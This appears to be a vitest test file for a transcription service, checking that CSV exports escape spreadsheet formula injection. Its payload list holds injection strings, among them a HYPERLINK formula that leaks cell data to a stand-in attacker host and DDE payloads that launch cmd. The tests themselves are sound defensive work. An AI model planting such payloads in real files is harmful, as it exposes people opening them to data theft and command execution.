import type { TSpeakerBlock } from '@transcribe/contract';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Session, signUpAndLogIn } from '../../src/test-support/accounts.js';
import { createTestApp, type TestApp } from '../../src/test-support/test-app.js';
import { insertTranscript } from '../../src/test-support/transcripts.js';

/** What someone could say, or type into an edit, that a spreadsheet would otherwise run. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full recording")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const blocks = (speaker: string, texts: string[]): TSpeakerBlock[] => [
  {
    audio_transcript_data_id: 1,
    audio_transcript_data_speaker: speaker,
    audio_transcript_data_segment: texts.map((text, i) => ({
      audio_transcript_data_segment_id: i + 1,
      audio_transcript_data_segment_transcript: text,
      audio_transcript_data_segment_start_time: i * 2,
      audio_transcript_data_segment_end_time: i * 2 + 1.5,
      audio_transcript_data_segment_verified: false,
      audio_transcript_data_segment_sa: {
        audio_transcript_data_segment_sa_label: 'negative',
        audio_transcript_data_segment_sa_score: -0.4,
      },
      audio_transcript_data_segment_words: [],
    })),
  },
];

/** Every cell of a CSV export, parsed as a spreadsheet would split it. */
const cells = (body: Buffer) => (parseCsv(body, { bom: true }) as string[][]).slice(1);

describe('CSV exports are safe to open in a spreadsheet', () => {
  let t: TestApp;
  let session: Session;
  beforeAll(async () => {
    t = await createTestApp();
    session = await signUpAndLogIn(t.app);
  });
  afterAll(() => t.close());

  const exportCsv = (id: number) =>
    t.app.inject({
      method: 'POST',
      url: `/api/v1/audio/transcript/export/${id}`,
      headers: session.auth,
      payload: { audio_transcript_export_type: 'csv' },
    });

  /** `edited`: the text went through an edit, which trims the whitespace around it. */
  function expectNeutralised(rows: string[][], speaker: string, edited = false) {
    expect(rows).toHaveLength(PAYLOADS.length);
    rows.forEach((row, i) => {
      const [start, end, who, text, label, score] = row;
      for (const cell of row) {
        if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      // The words stay readable: only a leading apostrophe is added.
      expect(text).toBe(`'${edited ? PAYLOADS[i]?.trim() : PAYLOADS[i]}`);
      expect(who).toBe(`'${speaker}`);
      // Numbers we write ourselves stay numbers, a negative score included (an edit rescores sentiment).
      expect([start, end]).toEqual([(i * 2).toFixed(3), (i * 2 + 1.5).toFixed(3)]);
      expect(label).toMatch(/^(positive|neutral|negative)$/);
      expect(score).toMatch(/^-?\d+(\.\d+)?$/);
    });
  }

  it('neutralises formula cells in the export of one file', async () => {
    const speaker = '=cmd|"/C calc"!A0';
    const { transcriptId } = await insertTranscript(
      t,
      session.auth,
      session.user.user_id,
      blocks(speaker, PAYLOADS),
    );
    const res = await exportCsv(transcriptId);
    expect(res.statusCode, res.body).toBe(200);
    expectNeutralised(cells(res.rawPayload), speaker);
  });

  it('neutralises them in every file of a bulk export, and in text typed into an edit', async () => {
    // The bulk bar exports each selected file through the same endpoint, one after another.
    const speakers = ['@attacker', '+speaker', '-speaker'];
    const ids: number[] = [];
    for (const speaker of speakers) {
      const { transcriptId } = await insertTranscript(
        t,
        session.auth,
        session.user.user_id,
        blocks(
          speaker,
          PAYLOADS.map(() => 'fine'),
        ),
      );
      const edit = await t.app.inject({
        method: 'PUT',
        url: `/api/v1/audio/transcript/${transcriptId}`,
        headers: session.auth,
        payload: {
          audio_transcript_data: [
            {
              audio_transcript_data_id: 1,
              audio_transcript_data_speaker: speaker,
              audio_transcript_data_segment: PAYLOADS.map((text, i) => ({
                audio_transcript_data_segment_id: i + 1,
                audio_transcript_data_segment_transcript: text,
              })),
            },
          ],
        },
      });
      expect(edit.statusCode, edit.body).toBe(200);
      ids.push(transcriptId);
    }
    const exports = await Promise.all(ids.map(exportCsv));
    exports.forEach((res, i) => {
      expect(res.statusCode, res.body).toBe(200);
      expectNeutralised(cells(res.rawPayload), speakers[i] ?? '', true);
    });
  });
});
